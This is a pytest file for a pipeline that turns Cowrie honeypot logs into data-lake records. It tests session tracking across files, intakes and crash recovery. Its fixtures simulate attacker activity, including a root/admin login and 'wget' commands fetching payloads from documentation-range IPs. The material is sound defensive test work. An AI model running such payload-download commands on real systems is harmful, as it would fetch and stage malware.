"""Cowrie's logs from the file to the lake: sessions over slices, files and intakes."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from tests.fakes.small_home import EVENING, NIGHT, SmallHome, rows_of
from tests.strategies.cowrie_logs import closed, connect, cowrie, download, lines, log, login

from tocsin.catalogue.files import SHIPPED
from tocsin.catalogue.load import load_catalogue, load_files
from tocsin.engine.files import read_object
from tocsin.engine.intake.ledger import Ledger, PieceAccount
from tocsin.engine.intake.open_sessions import MOST_KEPT, OpenSessions
from tocsin.engine.sources.sessions import OpenSession

POTS = """\
extends: cowrie
title: Honeypots of the tests
description: Honeypots in documentation space.
filters: {reserved_allowed: [documentation]}
"""
BRUTE, MALWARE = "event4_honeypot_brute_force", "malware_url"
SCAN = "event4_honeypot_ssh_scan"
LATER = EVENING + dt.timedelta(minutes=15)


@pytest.fixture
def small(tmp_path: Path) -> SmallHome:
    made = SmallHome.make(tmp_path)
    made.write_source("pots", POTS)
    return made


def take(
    small: SmallHome, *files: Path, now: dt.datetime = EVENING, slice_rows: int = 250_000
) -> list[PieceAccount]:
    """Take files in; the account of every piece."""
    collected = small.collect(*files, source="pots", now=now, slice_rows=slice_rows)
    assert collected.refused == []
    pieces = [piece for record in collected.records for piece in record.pieces]
    assert all(piece.adds_up for piece in pieces)
    return pieces


def records(small: SmallHome, report_type: str = BRUTE) -> list[dict[str, object]]:
    """All records of a type, by time."""
    files = sorted((small.home.lake / "records").rglob("*.parquet"))
    tables = [pq.read_table(path) for path in files if report_type in path.parts]
    rows = [row for table in tables for row in table.to_pylist()]
    return sorted(rows, key=lambda row: (row["timestamp"], row["_id"]))


def ports(small: SmallHome) -> list[object]:
    return [row["src_port"] for row in records(small)]


def unknown(pieces: list[PieceAccount]) -> int:
    return sum(piece.notes.get("session_unknown", 0) for piece in pieces)


# --- what becomes of a day --------------------------------------------------------------------


def test_every_event_is_a_record_an_observation_or_dropped(small: SmallHome) -> None:
    command = cowrie("command.input", 5, "a", input="wget http://198.51.100.7:8080/33")
    rows = [
        connect(1, "a", 1001),
        cowrie("client.version", 2, "a", version="SSH-2.0-Go"),
        login(3, "a"),
        cowrie("login.success", 4, "a", username="root", password="admin"),
        command,
        download(6, "a", "http://198.51.100.7:8080/33"),
        download(7, "a", "http://load.example.org/x"),
        cowrie("session.file_download.failed", 8, "a", url="http://203.0.113.9/y"),
        cowrie("command.input", 9, "a", input="uname -a"),
        closed(10, "a"),
        {"src_ip": "192.0.2.10"},
    ]
    (piece,) = take(small, small.put("cowrie.json", lines(rows)))
    assert (piece.rows, piece.accepted) == (11, 7)
    assert piece.dropped == {"no_rule": 3}
    assert piece.rejected == {"no_event": 1}
    assert piece.records == {BRUTE: 6, MALWARE: 3}
    assert piece.observations == {"connection": 1}
    assert piece.notes == {f"not_for:{MALWARE}": 1}


def test_a_record_says_what_the_honeypot_saw(small: SmallHome) -> None:
    version = cowrie("client.version", 2, "a", version="SSH-2.0-Go")
    loaded = download(5, "a", "http://198.51.100.7:8080/33")
    telnet = [connect(6, "b", 1002, protocol="telnet"), login(7, "b")]
    content = lines([connect(1, "a", 1001), version, login(3, "a"), loaded, *telnet])
    take(small, small.put("cowrie.json", content))
    ssh, payload, by_telnet = records(small)
    assert {name: ssh[name] for name in ("src_ip", "src_port", "src_asn", "dst_port")} == {
        "src_ip": "192.0.2.10",
        "src_port": 1001,
        "src_asn": 64496,
        "dst_port": 2222,
    }
    assert (ssh["protocol"], ssh["service"], ssh["application"]) == ("tcp", "ssh", "ssh")
    assert (ssh["infection"], ssh["tag"]) == ("ssh-brute-force", "ssh")
    assert (ssh["username"], ssh["password"], ssh["client_version"]) == (
        "root",
        "***",
        "SSH-2.0-Go",
    )
    assert ssh["start_time"] == dt.datetime(2026, 11, 22, 0, 0, 1, tzinfo=dt.UTC)
    assert (ssh["event_id"], ssh["_sensor"]) == ("cowrie.login.failed", "pot-1")
    assert (payload["payload_url"], payload["tag"]) == ("http://198.51.100.7:8080/33", "payload")
    assert (by_telnet["service"], by_telnet["infection"]) == ("telnet", "telnet-brute-force")
    (malware,) = records(small, MALWARE)
    assert (malware["ip"], malware["port"], malware["asn"]) == ("198.51.100.7", 8080, 64497)
    assert (malware["url"], malware["sha256"]) == ("http://198.51.100.7:8080/33", "e3b0c442")
    assert (malware["application"], malware["source"]) == ("http", "honeypot")


def test_a_report_shows_the_port_and_hides_the_honeypot(small: SmallHome) -> None:
    take(small, small.put("cowrie.json", log(connect(1, "a", 1001), login(2, "a"))))
    (row,) = rows_of(small, small.night(), f"2026-11-22-{BRUTE}-alpha-asn.csv")
    assert (row["src_port"], row["dst_port"], row["dst_ip"]) == ("1001", "2222", "")


def test_what_was_only_named_is_less_severe_than_what_was_fetched(small: SmallHome) -> None:
    named = cowrie("command.input", 2, "a", input="wget http://198.51.100.7/33")
    fetched = download(3, "a", "http://198.51.100.7/34")
    take(small, small.put("cowrie.json", log(connect(1, "a", 1001), named, fetched)))
    assert [row["severity"] for row in records(small, MALWARE)] == ["medium", "critical"]


def test_the_example_of_the_source_goes_in(small: SmallHome) -> None:
    example = load_files(SHIPPED, None).examples["cowrie"]
    (piece,) = take(small, small.put(example["file"], example["content"].encode()))
    assert (piece.rows, piece.accepted, piece.dropped) == (8, 5, {"no_rule": 3})
    assert piece.records == {BRUTE: 2, MALWARE: 1, SCAN: 1}
    assert {row["src_port"] for row in records(small)} == {50122}


# --- sessions ---------------------------------------------------------------------------------


def test_a_session_goes_on_over_slices(small: SmallHome) -> None:
    rows = [connect(1, "a", 1001), connect(2, "b", 1002), login(3, "a"), login(4, "b")]
    pieces = take(small, small.put("cowrie.json", lines(rows)), slice_rows=1)
    assert (len(pieces), unknown(pieces)) == (4, 0)
    assert ports(small) == [1001, 1002]


FIRST = log(connect(1, "a", 1001), connect(2, "b", 1002), closed(3, "b"))
SECOND = log(login(4, "a"), connect(5, "c", 1003), login(6, "c"))


def test_a_session_goes_on_over_two_files_of_one_intake(small: SmallHome) -> None:
    first, second = small.put("cowrie.json.1", FIRST), small.put("cowrie.json.2", SECOND)
    assert unknown(take(small, first, second)) == 0
    assert ports(small) == [1001, 1003]


def test_the_newest_file_may_be_named_before_the_one_that_was_cut_off(small: SmallHome) -> None:
    first, second = small.put("cowrie.json.2026-11-22", FIRST), small.put("cowrie.json", SECOND)
    assert unknown(take(small, second, first)) == 0
    assert ports(small) == [1001, 1003]


def test_a_session_goes_on_over_two_intakes(small: SmallHome) -> None:
    take(small, small.put("cowrie.json.1", FIRST))
    assert unknown(take(small, small.put("cowrie.json.2", SECOND), now=LATER)) == 0
    assert ports(small) == [1001, 1003]
    kept = Ledger(small.home.ledger).open_sessions("pots")
    assert sorted(map(json.loads, kept)) == [["pot-1", "a"], ["pot-1", "c"]]


def test_what_a_later_file_adds_to_a_session_goes_on_with_it(small: SmallHome) -> None:
    take(small, small.put("cowrie.json.1", FIRST))
    version = cowrie("client.version", 4, "a", version="SSH-2.0-Go")
    take(small, small.put("cowrie.json.2", log(version)), now=LATER)
    take(small, small.put("cowrie.json.3", log(login(5, "a"))), now=LATER)
    (row,) = records(small)
    assert (row["src_port"], row["client_version"]) == (1001, "SSH-2.0-Go")


def test_a_file_that_comes_before_its_beginning_is_taken_without_ports(small: SmallHome) -> None:
    pieces = take(small, small.put("cowrie.json.2", SECOND))
    assert unknown(pieces) == 1
    take(small, small.put("cowrie.json.1", FIRST), now=LATER)
    first, second = records(small)
    assert (first["src_port"], second["src_port"]) == (None, 1003)
    assert (first["src_ip"], first["infection"]) == ("192.0.2.10", "brute-force")


def test_taken_again_once_its_beginning_is_there_a_file_gets_its_ports(small: SmallHome) -> None:
    second = small.put("cowrie.json.2", SECOND)
    take(small, second)
    take(small, small.put("cowrie.json.1", FIRST), now=LATER)
    small.collect(second, source="pots", now=NIGHT, again=True)
    run = small.night()
    told = rows_of(small, run, f"2026-11-22-{BRUTE}-alpha-asn.csv")
    assert [row["src_port"] for row in told] == ["1001"]
    unit = run.manifest["units"][BRUTE]  # type: ignore[index]
    assert (unit["events"], unit["repeated"]) == (4, 2)


def test_taken_again_a_file_says_no_less_than_it_did(small: SmallHome) -> None:
    take(small, small.put("cowrie.json.1", log(connect(1, "a", 1001))))
    second = small.put("cowrie.json.2", log(login(2, "a"), closed(3, "a")))
    assert unknown(take(small, second, now=LATER)) == 0
    again = small.collect(second, source="pots", now=NIGHT, again=True)
    assert unknown([piece for record in again.records for piece in record.pieces]) == 0
    assert ports(small) == [1001, 1001]


def test_the_beginning_of_a_session_taken_again_forgets_nothing_of_it(small: SmallHome) -> None:
    first = small.put("cowrie.json.1", log(connect(1, "a", 1001)))
    take(small, first)
    version = cowrie("client.version", 2, "a", version="SSH-2.0-Go")
    take(small, small.put("cowrie.json.2", log(version, closed(3, "a"))), now=LATER)
    before = Ledger(small.home.ledger).open_sessions("pots")
    small.collect(first, source="pots", now=LATER, again=True)
    (kept,) = Ledger(small.home.ledger).open_sessions("pots").values()
    assert (kept.closed, kept.cells["client_version"]) == (True, "SSH-2.0-Go")
    assert [kept] == [*before.values()]


def test_files_taken_again_together_need_nothing_that_was_kept(small: SmallHome) -> None:
    first = small.put("cowrie.json.1", log(connect(1, "a", 1001)))
    second = small.put("cowrie.json.2", log(login(2, "a"), closed(3, "a")))
    take(small, first, second)
    (small.home.ledger / "sessions" / "pots.json").unlink()
    small.collect(second, first, source="pots", now=LATER, again=True)
    assert ports(small) == [1001, 1001]


def test_a_row_that_comes_a_file_after_the_end_knows_its_session(small: SmallHome) -> None:
    take(small, small.put("cowrie.json.1", log(connect(1, "a", 1001))))
    take(small, small.put("cowrie.json.2", log(closed(2, "a"))), now=LATER)
    pieces = take(small, small.put("cowrie.json.3", log(login(3, "a"))), now=LATER)
    assert (unknown(pieces), ports(small)) == (0, [1001])


def test_a_file_that_grew_in_the_middle_of_a_session_knows_its_beginning(
    small: SmallHome,
) -> None:
    take(small, small.put("cowrie.json", FIRST))
    late = log(login(7, "b"))  # of a session that ended before: only the file itself knows it
    pieces = take(small, small.put("cowrie.json", FIRST + SECOND + late), now=LATER)
    assert (sum(piece.rows for piece in pieces), unknown(pieces)) == (4, 0)
    assert ports(small) == [1001, 1003, 1002]


def test_the_same_session_at_two_sensors_is_two(small: SmallHome) -> None:
    opened = log(connect(1, "a", 1001), connect(2, "a", 1002, sensor="pot-2"))
    take(small, small.put("cowrie.json.1", opened))
    logins = log(login(3, "a"), login(4, "a", sensor="pot-2"), login(5, "a", sensor="pot-3"))
    assert unknown(take(small, small.put("cowrie.json.2", logins), now=LATER)) == 1
    assert ports(small) == [1001, 1002, None]


def test_a_session_that_was_never_opened_loses_no_row(small: SmallHome) -> None:
    pieces = take(small, small.put("cowrie.json", log(login(1, "a"), closed(2, "a"))))
    assert (unknown(pieces), sum(piece.accepted for piece in pieces)) == (2, 1)
    assert ports(small) == [None]


# --- being killed -----------------------------------------------------------------------------


def _lake(small: SmallHome) -> dict[str, bytes]:
    return {
        str(path.relative_to(small.home.lake)): path.read_bytes()
        for path in sorted(small.home.lake.rglob("*.parquet"))
    }


def _killed(small: SmallHome, second: Path, when: str) -> None:
    """Take a second file in, and leave the home as a kill at that moment does."""
    ledger, aside = small.home.ledger, small.home.root.parent / "aside"
    for name in ("batches", "sessions"):
        shutil.copytree(ledger / name, aside / name)
    shutil.copytree(small.home.lake, aside / "lake")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Ledger, "end", lambda *_: None)
        take(small, second, now=LATER, slice_rows=2)
    if when == "before the first batch":
        for place, name in ((ledger / "batches", "batches"), (small.home.lake, "lake")):
            shutil.rmtree(place)
            shutil.copytree(aside / name, place)
        # What is known of sessions may change meanwhile; what was begun does not mind.
        shutil.rmtree(ledger / "sessions")
    elif when == "before the plan is removed":
        for name in ("open.json", "open"):
            move = shutil.copytree if (ledger / name).is_dir() else shutil.copy
            move(ledger / name, aside / name)
        Ledger(ledger).end(Ledger(ledger).begun())
        for name in ("open.json", "open"):
            shutil.move(aside / name, ledger / name)


@pytest.mark.parametrize(
    "when", ["before the first batch", "before the end", "before the plan is removed"]
)
def test_an_intake_that_was_killed_goes_on_with_the_sessions_it_began_with(
    tmp_path: Path, when: str
) -> None:
    found: list[dict[str, bytes]] = []
    for name in ("whole", "killed"):
        small = SmallHome.make(tmp_path / name)
        small.write_source("pots", POTS)
        take(small, small.put("cowrie.json.1", FIRST))
        second = small.put("cowrie.json.2", SECOND)
        if name == "killed":
            _killed(small, second, when)
            assert len(small.collect(source="pots", now=NIGHT).resumed) == 2
            assert not (small.home.ledger / "open.json").exists()
        else:
            take(small, second, now=LATER, slice_rows=2)
        assert ports(small) == [1001, 1003]
        sessions = Ledger(small.home.ledger).open_sessions("pots")
        assert sorted(map(json.loads, sessions)) == [["pot-1", "a"], ["pot-1", "c"]]
        found.append(_lake(small))
    assert found[0] == found[1]


def test_an_ended_intake_leaves_its_sessions_and_no_plan(small: SmallHome) -> None:
    take(small, small.put("cowrie.json", FIRST))
    said = read_object(small.home.ledger / "sessions" / "pots.json")
    assert said["source"] == "pots"
    assert not (small.home.ledger / "open.json").exists()


# --- what is kept -----------------------------------------------------------------------------


def _open(**moments: str) -> dict[str, OpenSession]:
    return {key: OpenSession(moment, {"src_port": "1"}) for key, moment in moments.items()}


def test_sessions_are_kept_as_long_as_their_source_may_report() -> None:
    source = load_catalogue().source("cowrie")
    known = _open(
        young="2026-11-22T21:00:00Z",
        old="2026-11-19T20:00:00Z",
        ahead="2027-01-01T00:00:00Z",
        unread="yesterday",
    )
    assert set(OpenSessions(source, known).kept(EVENING)) == {"young"}


def test_old_logs_are_followed_as_new_ones_are() -> None:
    source = load_catalogue().source("cowrie")
    known = _open(one="2018-05-17T23:00:00Z", two="2018-05-18T01:00:00Z", old="2018-05-01 00:00")
    assert set(OpenSessions(source, known).kept(EVENING)) == {"one", "two"}


def test_of_too_many_sessions_the_closed_ones_go_first() -> None:
    source = load_catalogue().source("cowrie")
    ended = OpenSession("2026-11-22T20:00:00Z", {}, closed=True)
    going_on = {f"s{number:06}": "2026-11-22T10:00:00Z" for number in range(MOST_KEPT - 1)}
    known = {**_open(**going_on), "ended": ended}
    assert "ended" in OpenSessions(source, known).kept(EVENING)
    known |= _open(older="2026-11-22T09:00:00Z")
    kept = OpenSessions(source, known).kept(EVENING)
    assert ("older" in kept, "ended" in kept) == (True, False)


def test_sessions_noted_before_ends_were_noted_are_read() -> None:
    said = {"opened": "2026-11-22T20:00:00Z", "cells": {"src_port": "1"}}
    (session,) = _open(any="2026-11-22T20:00:00Z").values()
    assert OpenSession.from_json(said) == session


def test_of_too_many_open_sessions_the_newest_are_kept() -> None:
    source = load_catalogue().source("cowrie")
    many: list[tuple[str, str]] = [
        (
            f"s{number:06}",
            f"2026-11-22T{number // 3600:02}:{number // 60 % 60:02}:{number % 60:02}Z",
        )
        for number in range(MOST_KEPT + 3)
    ]
    kept = OpenSessions(source, _open(**dict(many))).kept(EVENING)
    assert sorted(kept) == [key for key, _ in many[3:]]
